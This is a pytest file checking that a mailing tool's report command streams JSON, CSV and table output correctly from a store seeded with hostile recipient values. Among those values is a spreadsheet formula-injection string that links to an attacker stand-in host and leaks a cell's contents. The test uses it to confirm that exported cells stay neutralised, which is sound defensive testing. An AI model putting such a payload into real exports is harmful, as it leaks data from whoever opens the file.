"""``report`` streams: the JSON and CSV are written row by row as the store pages them, the
table reads counts (and only the rows not sent), and the output is what it was when the
whole report was built in memory first (json.dumps(..., indent=1), csv.writer).

The store is filled straight with SQL, with values a store really gets from outside: quotes,
line breaks, a NUL, non-ASCII text, a line separator, a cell that starts like a formula."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from helpers import SAMPLE_ISSUE, RunCli, edit
from mirage_mailer.project.config import load_settings
from mirage_mailer.services import htmlreport, reporting
from mirage_mailer.services.reporting import report_stream
from mirage_mailer.store import Store, open_store
from mirage_mailer.store import recipients as recipients_module
from mirage_mailer.store.recipients import INFLIGHT_WORDS
from mirage_mailer.util.csvcells import safe_row
from mirage_mailer.util.jsonstream import iter_json
from mirage_mailer.util.visible import visible

ISSUE = SAMPLE_ISSUE.rsplit("/", 1)[-1]
OTHER = "2021-11-removed-issue"  # rows, no folder: reported from the store
STAMP = "2021-10-05T09:30:00+00:00"
HOSTILE = [  # email, status, code, response
    ('"o\'brien, the \\ one"@example.org', "sent", 250, '250 2.0.0 Ok: "queued" as 9F'),
    ("=HYPERLINK(\"http://evil.example/?\"&A1)@example.org", "failed", 550,
     "550 5.1.1 user unknown\r\n\tsecond line\u2028third"),
    ("zoë.ünïcode@exämple.org", "pending", None, None),
    ("nul\x00byte@example.org", "sending", None, None),
    ("-2+3@example.org", "suppressed", None, None),
    ("tab\tin@example.org", "invalid", None, None),
    ("@withdrawn@example.org", "withdrawn", None, None),
    ("emoji.😀@example.org", "failed", 554, "554 «refusé» — \x00 NUL and \\u0000 text"),
]


def fill(project: Path) -> Path:
    """The hostile rows of ``ISSUE`` (and three of ``OTHER``), as a send would leave them."""
    database = load_settings(project / "mirage.yaml").tracking.database
    assert isinstance(database, Path)
    open_store(database).close()
    rows = [(ISSUE, *row) for row in HOSTILE] + [
        (OTHER, f"other{n}@example.org", "sent", 250, f"250 ok {n}") for n in range(3)]
    with sqlite3.connect(database) as conn:
        conn.executemany(
            "INSERT INTO recipients (issue, email, email_key, list_name, status, attempts,"
            " message_id, smtp_code, smtp_response, created_at, last_attempt_at)"
            " VALUES (?, ?, lower(?), 'subscribers', ?, ?, ?, ?, ?, ?, ?)",
            [(issue, email, email, status, 1 if code else 0,
              f"<{n}@mirage.example>" if code else None, code, reply, STAMP,
              STAMP if code else None)
             for n, (issue, email, status, code, reply) in enumerate(rows)])
    conn.close()
    return database


def stored(database: Path, issue: str) -> list[dict[str, Any]]:
    """The rows as the contract shows them, read here with plain SQL, not by the report."""
    with sqlite3.connect(database) as conn:
        found = conn.execute(
            "SELECT email, status, attempts, message_id, smtp_code, smtp_response,"
            " last_attempt_at FROM recipients WHERE issue = ? ORDER BY id", (issue,)).fetchall()
    conn.close()
    keys = ("email", "status", "attempts", "message_id", "smtp_code", "smtp_response",
            "last_attempt_at")
    # a row on the wire ('sending') is shown as the next run records it (unknown, the
    # attempt counted, INFLIGHT_WORDS)
    return [dict(zip(keys, (r[0], "unknown", r[2] + 1, r[3], None, INFLIGHT_WORDS, r[6])
                     if r[1] == "sending" else r, strict=True)) for r in found]


def counts(rows: list[dict[str, Any]]) -> dict[str, int]:
    found = dict.fromkeys(("sent", "failed", "pending", "suppressed", "invalid", "unknown",
                           "withdrawn"), 0)
    for row in rows:
        found[row["status"]] += 1
    return found


def test_json_is_what_json_dumps_of_the_whole_report_was(project: Path,
                                                         run_cli: RunCli) -> None:
    database = fill(project)
    one = {"issue": ISSUE, "counts": counts(stored(database, ISSUE)),
           "recipients": stored(database, ISSUE)}
    other = {"issue": OTHER, "counts": counts(stored(database, OTHER)),
             "recipients": stored(database, OTHER)}
    single = run_cli("report", SAMPLE_ISSUE, "--format", "json")
    assert (single.code, single.err) == (0, "")
    assert single.out == json.dumps(one, ensure_ascii=False, indent=1) + "\n"
    every = run_cli("report", "--format", "json")
    assert every.code == 0, every.err
    assert every.out == json.dumps([one, other], ensure_ascii=False, indent=1) + "\n"


def test_csv_is_what_the_whole_list_of_rows_was(project: Path) -> None:
    database = fill(project)
    subject = "MIraGE news: final partners' meeting and lessons learned"
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(reporting.CSV_COLUMNS)
    for issue, title in ((ISSUE, subject), (OTHER, None)):
        # a relay's answer is shown on one line, control characters escaped (util/visible)
        writer.writerows(safe_row([issue, title, *{
            **row, "smtp_response": row["smtp_response"] and visible(row["smtp_response"])
        }.values()]) for row in stored(database, issue))
    # bytes: a text pipe would turn the CR inside a quoted cell into a line end
    result = subprocess.run([sys.executable, "-m", "mirage_mailer", "report", "--format", "csv"],
                            cwd=project, capture_output=True, check=False)
    assert (result.returncode, result.stderr) == (0, b"")
    assert result.stdout == expected.getvalue().encode("utf-8")
    assert b"'=HYPERLINK" in result.stdout  # still quoted against spreadsheet formulas


def test_relays_and_bounces_keep_their_place_in_each_row(project: Path,
                                                         run_cli: RunCli) -> None:
    """``bounce`` then ``relay`` after the contract's keys, as when the rows were built in
    memory; the relay is read with its row (only for rows a relay answered for)."""
    config = project / "mirage.yaml"
    edit(config, "  url: maildir:outbox\n",
         "  relays:\n    - url: smtp://127.0.0.1:2525\n    - url: smtp://127.0.0.1:2526\n")
    edit(config, "  starttls: always", "  starttls: never")
    config.write_text(config.read_text(encoding="utf-8") + "bounces:\n  address: "
                      "bounces@mirageproject.eu\n  mailbox: bouncebox\n", encoding="utf-8")
    database = fill(project)
    with sqlite3.connect(database) as conn:
        conn.execute("UPDATE recipients SET relay = 'smtp://127.0.0.1:2525'")  # pending too
        conn.execute("INSERT INTO events (recipient_id, issue, email, kind, at) SELECT id,"
                     " issue, email_key, 'bounced', ? FROM recipients WHERE status = 'sent'",
                     (STAMP,))
    conn.close()
    result = run_cli("report", SAMPLE_ISSUE, "--format", "json")
    assert result.code == 0, result.err
    assert result.out == json.dumps(json.loads(result.out), ensure_ascii=False, indent=1) + "\n"
    carried = {"sent", "failed", "unknown"}
    want = [{**row, "bounce": "hard" if row["status"] == "sent" else None,
             "relay": "smtp://127.0.0.1:2525" if row["status"] in carried else None}
            for row in stored(database, ISSUE)]
    got = json.loads(result.out)
    assert [list(row.items()) for row in got["recipients"]] == [list(r.items()) for r in want]
    assert list(got) == ["issue", "counts", "recipients", "bounces", "relays"]
    assert got["relays"] == {"smtp://127.0.0.1:2525": {"sent": 1, "failed": 2, "unknown": 1}}
    table = run_cli("report", "--format", "csv")
    assert table.out.splitlines()[0].endswith(",bounce,relay")


def test_the_table_shows_counts_and_the_rows_not_sent(project: Path, run_cli: RunCli) -> None:
    fill(project)
    result = run_cli("report", SAMPLE_ISSUE)
    assert result.code == 0, result.err
    counts_row = next(line for line in result.out.splitlines() if "MIraGE news" in line)
    assert [c.strip() for c in counts_row.split("│")[2:9]] == ["1", "2", "1", "1", "1", "1",
                                                               "1"]
    assert "Recipients not sent" in result.out
    assert "zoë.ünïcode@exämple.org" in result.out and "emoji.😀@example.org" in result.out
    assert "o'brien" not in result.out  # sent: not in the detail
    assert "more not sent" not in result.out


class Counting:
    """A store connection that notes how many rows each query handed out."""

    def __init__(self, conn: Any) -> None:
        self.conn = conn
        self.queries: list[list[Any]] = []  # [sql, rows fetched]

    def execute(self, sql: str, parameters: Any = (), /) -> Any:
        noted = [sql, 0]
        self.queries.append(noted)
        return _Cursor(self.conn.execute(sql, parameters), noted)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.conn, name)


class _Cursor:
    def __init__(self, cursor: Any, noted: list[Any]) -> None:
        self.cursor, self.noted = cursor, noted

    def fetchall(self) -> list[Any]:
        rows: list[Any] = self.cursor.fetchall()
        self.noted[1] += len(rows)
        return rows

    def fetchone(self) -> Any:
        row = self.cursor.fetchone()
        self.noted[1] += row is not None
        return row

    def __iter__(self) -> Iterator[Any]:
        for row in self.cursor:
            self.noted[1] += 1
            yield row

    def __getattr__(self, name: str) -> Any:
        return getattr(self.cursor, name)


class CountingAccess:
    """``StoreAccess`` handing out a store whose queries are counted."""

    def __init__(self, database: Path) -> None:
        self.database = database
        self.counting: Counting | None = None

    @contextmanager
    def existing(self, *, settle: bool = True) -> Iterator[Store | None]:
        with open_store(self.database) as store:
            self.counting = Counting(store._conn)
            store._conn = self.counting
            yield store


def row_reads(access: CountingAccess) -> list[int]:
    """Rows fetched by each query that read recipient rows (not counts, not issue names)."""
    assert access.counting is not None
    return [n for sql, n in access.counting.queries
            if sql.startswith("SELECT id, email") and "FROM recipients" in sql]


@pytest.mark.parametrize("unsent", [False, True])
def test_the_report_reads_rows_a_page_at_a_time(project: Path, monkeypatch: pytest.MonkeyPatch,
                                                unsent: bool) -> None:
    database = fill(project)
    monkeypatch.setattr(recipients_module, "_PAGE", 3)
    settings = load_settings(project / "mirage.yaml")
    access = CountingAccess(database)
    with report_stream(settings, ISSUE, unsent=unsent, stores=access) as found:
        assert row_reads(access) == []  # nothing read before it is written
        text = "".join(iter_json(found[0]))
    expected = [r for r in stored(database, ISSUE) if not unsent or r["status"] != "sent"]
    assert json.loads(text)["recipients"] == expected
    assert row_reads(access) == ([3, 3, 1] if unsent else [3, 3, 2])


def test_the_table_of_every_issue_reads_no_row(project: Path) -> None:
    database = fill(project)
    settings = load_settings(project / "mirage.yaml")
    access = CountingAccess(database)
    with report_stream(settings, None, unsent=True, stores=access) as found:
        assert [r["counts"]["sent"] for r in found] == [1, 3]
    assert row_reads(access) == []


def _old_series(events: list[tuple[datetime, str]]) -> tuple[int, dict[str, list[int]]]:
    """The bars as the page drew them from one entry per event (before it streamed)."""
    times = [when.astimezone(UTC) for when, _ in events]
    first, last = min(times), max(times)
    bucket = htmlreport._bucket(last - first)
    start = datetime.fromtimestamp(int(first.timestamp()) // bucket * bucket, UTC)
    bars = int((last - start).total_seconds() // bucket) + 1
    series = {kind: [0] * bars for kind in htmlreport._TIMELINE_KINDS}
    for when, (_, kind) in zip(times, events, strict=True):
        series[kind][int((when - start).total_seconds() // bucket)] += 1
    return bucket, series


@pytest.mark.parametrize("span", [0.4, 2.5, 47.9, 48.0, 48.6, 3599.7, 7 * 86400 + 0.5])
def test_the_timeline_per_second_draws_the_bars_one_entry_per_event_drew(
        monkeypatch: pytest.MonkeyPatch, span: float) -> None:
    """Fractions of a second, bucket edges, time zones: the same bars, the same sentence."""
    start = datetime(2021, 10, 5, 9, 29, 59, 999_999, tzinfo=timezone(timedelta(hours=2)))
    kinds = htmlreport._TIMELINE_KINDS
    events = [(start + timedelta(seconds=span * n / 97), kinds[n % len(kinds)])
              for n in range(98)]
    data = htmlreport.ReportData("x", {})
    for when, kind in events:
        data.timeline.add(when, kind)
    drawn: list[tuple[str, list[int]]] = []
    add = htmlreport.pygal.StackedBar.add

    def noted(chart: Any, kind: str, values: list[int]) -> Any:
        drawn.append((kind, list(values)))
        return add(chart, kind, values)

    monkeypatch.setattr(htmlreport.pygal.StackedBar, "add", noted)
    found = htmlreport._timeline(data)
    bucket, series = _old_series(events)
    assert found is not None and found["chart"]
    assert drawn == [(kind, series[kind]) for kind in kinds if any(series[kind])]
    assert f"per {htmlreport._duration(bucket)}" in found["chart"]
    first, last = (min(w for w, _ in events).astimezone(UTC),
                   max(w for w, _ in events).astimezone(UTC))
    assert (found["first"], found["last"]) == (f"{first:%Y-%m-%d %H:%M:%S}",
                                               f"{last:%Y-%m-%d %H:%M:%S}")
    assert data.timeline.first_sent == min(w for w, k in events if k == "sent")


def test_the_table_lists_500_rows_not_sent_and_counts_the_rest(project: Path,
                                                               run_cli: RunCli) -> None:
    database = fill(project)  # 7 rows not sent
    with sqlite3.connect(database) as conn:
        conn.executemany(
            "INSERT INTO recipients (issue, email, email_key, list_name, created_at)"
            " VALUES (?, ?, ?, 'subscribers', ?)",
            [(ISSUE, f"later{n:03d}@example.org", f"later{n:03d}@example.org", STAMP)
             for n in range(500)])
    conn.close()
    result = run_cli("report", SAMPLE_ISSUE)
    assert result.code == 0, result.err
    shown = [line for line in result.out.splitlines() if "@ex" in line]
    assert len(shown) == 500 and "later492@example.org" in shown[-1]
    assert result.out.rstrip().endswith("... and 7 more not sent: --format csv lists every "
                                        "recipient")
